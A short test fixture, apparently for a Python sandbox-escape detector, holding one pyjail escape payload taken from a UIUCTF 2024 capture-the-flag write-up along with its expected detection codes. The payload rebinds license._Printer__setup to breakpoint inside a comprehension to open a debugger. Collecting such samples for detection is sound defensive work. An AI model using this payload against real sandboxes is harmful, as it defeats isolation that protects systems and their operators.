# Escape: a comprehension's for-target is an attribute store: license._Printer__setup = breakpoint, triggered by str(license)
# Source: https://github.com/jiegec/ctf-writeups/blob/af063ebd92400fe98aba67671b7bf1c65caf7ce0/misc/pyjail/uiuctf-2024-astea.md (UIUCTF 2024 ASTea)
# Expect: OC101 OC401

[f"{license}" for license._Printer__setup in [breakpoint]]
